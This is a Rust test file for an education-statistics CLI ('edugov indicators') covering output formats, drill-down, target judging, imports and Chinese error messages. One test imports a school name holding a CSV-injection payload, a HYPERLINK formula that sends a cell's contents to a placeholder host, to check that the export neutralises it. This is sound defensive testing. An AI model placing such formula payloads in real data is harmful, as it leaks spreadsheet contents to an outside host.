//! `edugov indicators` on the small demo city: formats, drill-down, judging,
//! freshness after an import, and clear errors.

use serde_json::Value as Json;

use crate::{edugov, small_city};

fn json(db: &std::path::Path, args: &[&str]) -> Vec<Json> {
    let mut all = vec!["indicators", "--format", "json"];
    all.extend_from_slice(args);
    let run = edugov(db, &all);
    assert_eq!(run.code, 0, "{}", run.stderr);
    serde_json::from_str::<Json>(&run.stdout)
        .unwrap()
        .as_array()
        .unwrap()
        .clone()
}

#[test]
fn json_rows_carry_codes_numerators_and_values() {
    let rows = json(
        &small_city().db,
        &["--year", "all", "--level", "county", "--level", "school"],
    );
    assert!(rows.len() > 1000, "{}", rows.len());
    let years: std::collections::BTreeSet<i64> =
        rows.iter().map(|r| r["school_year"].as_i64().unwrap()).collect();
    assert_eq!(years.len(), 6, "{years:?}");
    for r in &rows {
        for field in [
            "indicator",
            "area",
            "school",
            "school_year",
            "value",
            "numerator",
            "denominator",
        ] {
            assert!(r.get(field).is_some(), "{field} missing in {r}");
        }
        assert_eq!(r["school"].is_null(), r["level"] == "county", "{r}");
        if let (Some(n), Some(d), Some(v)) = (
            r["numerator"].as_f64(),
            r["denominator"].as_f64(),
            r["value"].as_f64(),
        ) {
            let scale = v / (n / d);
            assert!(
                n == 0.0 || [1.0, 100.0].iter().any(|s| (scale - s).abs() < 1e-6),
                "{r}"
            );
        }
    }
}

#[test]
fn the_city_student_count_matches_the_summary() {
    let db = &small_city().db;
    let rows = json(db, &["-i", "student_count", "--level", "city"]);
    let total = rows.iter().find(|r| r["stage"].is_null()).unwrap()["value"]
        .as_f64()
        .unwrap();
    let summary = edugov(db, &["summary"]);
    let expected = format!("{}", total as u64);
    assert!(
        summary.stdout.contains(&expected),
        "{expected} not in\n{}",
        summary.stdout
    );
}

#[test]
fn seed_questions_large_classes_by_county_and_unmet_lines() {
    let db = &small_city().db;
    // How many 大班额 classes are left in each county (one row per county and stage).
    let rows = json(db, &["-i", "large_class_count", "--level", "county"]);
    let counties: std::collections::BTreeSet<&str> =
        rows.iter().map(|r| r["area"].as_str().unwrap()).collect();
    assert_eq!(counties.len(), 13);
    assert!(rows.iter().all(|r| r["area"].as_str().unwrap().len() == 6));
    // Which counties fail the 优质均衡 CV lines: every row given is over its line.
    let unmet = json(db, &["-i", "balanced", "--level", "county", "--unmet"]);
    for r in &unmet {
        assert_eq!(r["met"], Json::Bool(false), "{r}");
    }
    let all = json(db, &["-i", "balanced", "--level", "county"]);
    let judged = all.iter().filter(|r| !r["met"].is_null()).count();
    assert!(judged > unmet.len(), "some lines are met, some not");
    // A plan's target replaces the policy line.
    let target = json(
        db,
        &[
            "-i",
            "inclusive_coverage",
            "--level",
            "county",
            "--target",
            "99.5",
        ],
    );
    assert!(target
        .iter()
        .all(|r| r["line"].as_f64() == Some(99.5) && r["line_kind"] == "target"));
}

#[test]
fn drilling_down_from_city_to_county_to_school() {
    let db = &small_city().db;
    let city = json(db, &["-i", "student_count", "--stage", "primary"]);
    let levels: Vec<&str> = city.iter().map(|r| r["level"].as_str().unwrap()).collect();
    assert!(
        levels.contains(&"city") && levels.contains(&"county"),
        "{levels:?}"
    );
    let county = json(
        db,
        &["-i", "student_count", "--stage", "primary", "--area", "历下区"],
    );
    assert!(county
        .iter()
        .all(|r| r["area"].as_str().unwrap().starts_with("370102")));
    assert!(county.iter().any(|r| r["level"] == "township"));
    let township = county.iter().find(|r| r["level"] == "township").unwrap()["area"]
        .as_str()
        .unwrap()
        .to_owned();
    let schools = json(
        db,
        &["-i", "student_count", "--stage", "primary", "--area", &township],
    );
    let sum: f64 = schools
        .iter()
        .filter(|r| r["level"] == "school")
        .map(|r| r["numerator"].as_f64().unwrap())
        .sum();
    let own = schools.iter().find(|r| r["level"] == "township").unwrap()["numerator"]
        .as_f64()
        .unwrap();
    assert_eq!(sum, own, "a township is the sum of its schools");
}

#[test]
fn values_are_fresh_after_an_import() {
    let (dir, db) = small_city().copy("fresh");
    let key = |db: &std::path::Path| -> f64 {
        let rows = json(db, &["-i", "key_teacher_share", "--level", "city"]);
        rows.iter().find(|r| r["stage"].is_null()).unwrap()["numerator"]
            .as_f64()
            .unwrap()
    };
    let before = key(&db);
    // One 2024 teacher who was not a key teacher becomes a provincial one.
    let text = std::fs::read_to_string(small_city().dir.join("teachers.csv")).unwrap();
    let mut lines = text.lines();
    let header = lines.next().unwrap();
    let column = header.split(',').position(|h| h == "骨干教师级别").unwrap();
    let row = lines
        .find(|l| l.starts_with("2024") && l.split(',').nth(column) == Some("无"))
        .unwrap()
        .split(',')
        .enumerate()
        .map(|(i, cell)| if i == column { "省级" } else { cell })
        .collect::<Vec<_>>()
        .join(",");
    let file = dir.path().join("teachers.csv");
    std::fs::write(&file, format!("{header}\n{row}\n")).unwrap();
    let import = edugov(&db, &["import", file.to_str().unwrap()]);
    assert_eq!(import.code, 0, "{}", import.stderr);
    assert_eq!(key(&db), before + 1.0);
}

#[test]
fn xlsx_has_values_and_definitions_in_chinese() {
    let (dir, db) = small_city().copy("xlsx");
    let out = dir.path().join("指标.xlsx");
    let run = edugov(
        &db,
        &[
            "indicators",
            "-i",
            "class_size",
            "--format",
            "xlsx",
            "-o",
            out.to_str().unwrap(),
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&out).unwrap();
    use calamine::Reader;
    assert_eq!(
        book.sheet_names(),
        vec!["指标值".to_owned(), "指标说明".to_owned()]
    );
    let values = book.worksheet_range("指标值").unwrap();
    let header: Vec<String> = values
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(
        &header[..8],
        [
            "学年",
            "层级",
            "区域代码",
            "学校标识码",
            "名称",
            "指标",
            "学段",
            "数值"
        ]
    );
    assert!(values.rows().skip(1).any(|r| r[5] == "大班额比例" && r[8] == "%"));
    let notes = book.worksheet_range("指标说明").unwrap();
    assert!(notes
        .rows()
        .any(|r| r[0] == "large_class_count" && r[6].to_string().contains("56")));
}

#[test]
fn csv_output_opens_in_excel() {
    let run = edugov(
        &small_city().db,
        &["indicators", "-i", "myopia_rate", "--format", "csv"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout.starts_with("\u{feff}学年,层级,区域代码"),
        "{}",
        &run.stdout[..60]
    );
    assert!(run.stdout.contains("近视率"));
}

#[test]
fn mistakes_get_chinese_messages() {
    let db = &small_city().db;
    let unknown = edugov(db, &["indicators", "-i", "large_class"]);
    assert_eq!(unknown.code, 1);
    assert!(unknown.stderr.contains("未知指标“large_class”") && unknown.stderr.contains("large_class_count"));
    let year = edugov(db, &["indicators", "--year", "2010"]);
    assert!(
        year.stderr.contains("没有 2010—2011学年 的数据"),
        "{}",
        year.stderr
    );
    let target = edugov(db, &["indicators", "-i", "class_size", "--target", "3"]);
    assert!(
        target.stderr.contains("--target 只能与一个 --indicator"),
        "{}",
        target.stderr
    );
    let area = edugov(db, &["indicators", "--area", "不存在区"]);
    assert!(area.stderr.contains("找不到名为“不存在区”"), "{}", area.stderr);
    let (_dir, empty) = crate::empty_db("empty");
    let none = edugov(&empty, &["indicators"]);
    assert!(none.stderr.contains("还没有学年数据"), "{}", none.stderr);
}

#[test]
fn policy_numbers_come_from_a_rules_file() {
    let (dir, db) = small_city().copy("rules");
    let count = |extra: &[&str]| -> f64 {
        let mut args = vec!["-i", "large_class_count", "--level", "city"];
        args.extend_from_slice(extra);
        json(&db, &args).iter().find(|r| r["stage"].is_null()).unwrap()["value"]
            .as_f64()
            .unwrap()
    };
    let rules = dir.path().join("rules.toml");
    std::fs::write(&rules, "large_class_min = 30\n").unwrap();
    assert!(count(&["--rules", rules.to_str().unwrap()]) > count(&[]));
    std::fs::write(&rules, "large_clas_min = 30\n").unwrap();
    let bad = edugov(&db, &["indicators", "--rules", rules.to_str().unwrap()]);
    assert!(
        bad.stderr.contains("规则文件") && bad.stderr.contains("large_clas_min"),
        "{}",
        bad.stderr
    );
}

#[test]
fn a_custom_indicator_is_summed_up_like_the_catalogue() {
    let db = &small_city().db;
    let custom = "share(classes where stage = junior and location = 农村, size > 40) * 100";
    let rows = json(
        db,
        &[
            "--custom",
            custom,
            "--name",
            "农村初中40人以上班级占比",
            "--level",
            "city",
            "--level",
            "county",
        ],
    );
    let city = rows.iter().find(|r| r["level"] == "city").unwrap();
    assert_eq!(city["indicator_name"], "农村初中40人以上班级占比");
    let counties: Vec<&Json> = rows.iter().filter(|r| r["level"] == "county").collect();
    let (n, d) = counties.iter().fold((0.0, 0.0), |(n, d), r| {
        (
            n + r["numerator"].as_f64().unwrap(),
            d + r["denominator"].as_f64().unwrap(),
        )
    });
    assert_eq!(
        (n, d),
        (
            city["numerator"].as_f64().unwrap(),
            city["denominator"].as_f64().unwrap()
        )
    );
    assert!(d > 0.0);
    let value = city["value"].as_f64().unwrap();
    assert!((value - n / d * 100.0).abs() < 1e-9);
    // Its denominator is what the catalogue counts as rural junior classes' base.
    let all_junior = json(db, &["-i", "class_count", "--level", "city", "--stage", "junior"]);
    assert!(d <= all_junior[0]["value"].as_f64().unwrap());
    // With a target, lower being better.
    let judged = json(
        db,
        &[
            "--custom",
            custom,
            "--level",
            "city",
            "--target",
            "0",
            "--lower-is-better",
        ],
    );
    assert_eq!(judged[0]["met"], Json::Bool(value == 0.0));
}

#[test]
fn a_wrong_custom_indicator_is_shown_where_it_is_wrong() {
    let db = &small_city().db;
    let run = edugov(
        db,
        &["indicators", "--custom", "count(students where stag = junior)"],
    );
    assert_eq!(run.code, 1);
    assert!(
        run.stderr.contains("学生没有字段“stag”") && run.stderr.contains("stage"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("\n                       ^^^^"),
        "{}",
        run.stderr
    );
    let run = edugov(
        db,
        &[
            "indicators",
            "--custom",
            "count(students) / (count(teachers) - count(teachers))",
        ],
    );
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("自定义指标有误"), "{}", run.stderr);
    let run = edugov(
        db,
        &["indicators", "--custom", "count(classes where size = 初中)"],
    );
    assert_eq!(run.code, 1, "{}", run.stdout);
}

#[test]
fn a_formula_like_school_name_is_neutralised_in_the_csv_and_negative_changes_stay_numbers() {
    let (dir, db) = small_city().copy("formula");
    let formula = r#"=HYPERLINK("http://x.example/?"&A1,"y")"#;
    let text = std::fs::read_to_string(small_city().dir.join("schools.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let headers = reader.headers().unwrap().clone();
    let name = headers.iter().position(|h| h == "学校名称").unwrap();
    let mut row = reader.records().next().unwrap().unwrap();
    row = row
        .iter()
        .enumerate()
        .map(|(i, cell)| if i == name { formula } else { cell })
        .collect();
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record(&headers).unwrap();
    out.write_record(&row).unwrap();
    let file = dir.path().join("schools.csv");
    std::fs::write(&file, out.into_inner().unwrap()).unwrap();
    let import = edugov(&db, &["import", file.to_str().unwrap()]);
    assert_eq!(import.code, 0, "{}", import.stderr);

    let run = edugov(
        &db,
        &[
            "indicators",
            "--level",
            "school",
            "--year",
            "all",
            "--format",
            "csv",
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let mut reader = csv::Reader::from_reader(run.stdout.trim_start_matches('\u{feff}').as_bytes());
    let fields: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    assert!(fields.contains(&format!("'{formula}")), "the school's name");
    assert!(!fields.iter().any(|f| f.starts_with('=')));
    assert!(
        fields
            .iter()
            .any(|f| f.starts_with('-') && f.parse::<f64>().is_ok()),
        "a fall from last year is still a number"
    );
}

#[test]
fn the_table_gives_changes_and_gaps_of_rates_in_percentage_points() {
    let db = &small_city().db;
    let run = edugov(
        db,
        &[
            "indicators",
            "-i",
            "inclusive_coverage",
            "--level",
            "county",
            "--target",
            "99.5",
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    // Every county has a change (last year held) and misses 99.5 %.
    assert!(run.stdout.contains(" 个百分点"), "{}", run.stdout);
    assert!(run.stdout.contains("✗ 差 "), "{}", run.stdout);
    for line in run.stdout.lines().filter(|l| l.contains("✗ 差 ")) {
        assert!(
            line.trim_end_matches(['│', '|', ' ']).ends_with("个百分点"),
            "{line}"
        );
    }
    // Never a change written as a per cent: "+1.20%".
    let chars: Vec<char> = run.stdout.chars().collect();
    for (i, c) in chars.iter().enumerate() {
        if *c == '+' || *c == '−' {
            let number: String = chars[i + 1..]
                .iter()
                .take_while(|d| d.is_ascii_digit() || **d == '.')
                .collect();
            let after = chars.get(i + 1 + number.chars().count());
            assert!(number.is_empty() || after != Some(&'%'), "{}", run.stdout);
        }
    }
    // A count's change stays a bare number.
    let counts = edugov(
        db,
        &["indicators", "-i", "large_class_count", "--level", "county"],
    );
    assert!(!counts.stdout.contains("个百分点"));
}

#[test]
fn a_value_just_under_its_target_is_not_met_and_the_table_shows_the_gap_in_full() {
    // Issue 12: judged on the value, not as shown. A target 0.004 above the
    // city's value rounds to the same two decimals, yet is not reached.
    let db = &small_city().db;
    let args = ["-i", "key_teachers_per_100", "--level", "city"];
    let rows = json(db, &args);
    let primary = rows.iter().find(|r| r["stage"] == "primary").unwrap();
    let value = primary["value"].as_f64().unwrap();
    // Between the value and the top of what shows as the same two decimals:
    // rounding first would have called it met.
    let shown = (value * 100.0).round() / 100.0;
    let target = (value + shown + 0.005) / 2.0;
    assert!(target > value && (target * 100.0).round() / 100.0 == shown);
    let target_text = format!("{target}");
    let mut judged = args.to_vec();
    judged.extend(["--target", &target_text]);
    let rows = json(db, &judged);
    let primary = rows.iter().find(|r| r["stage"] == "primary").unwrap();
    assert_eq!(primary["met"], Json::Bool(false), "{primary}");
    let gap = primary["gap"].as_f64().unwrap();
    assert!(gap < 0.0 && gap > -0.01, "{primary}");
    let mut table = vec!["indicators"];
    table.extend(judged.iter().copied());
    let run = edugov(db, &table);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let shown = format!(
        "✗ 差 {}",
        indicators::report::format_number(-gap, indicators::judge::gap_digits(gap, 2))
    );
    assert!(run.stdout.contains(&shown), "{shown} not in\n{}", run.stdout);
    assert!(!run.stdout.contains("差 0.00 "), "{}", run.stdout);
}
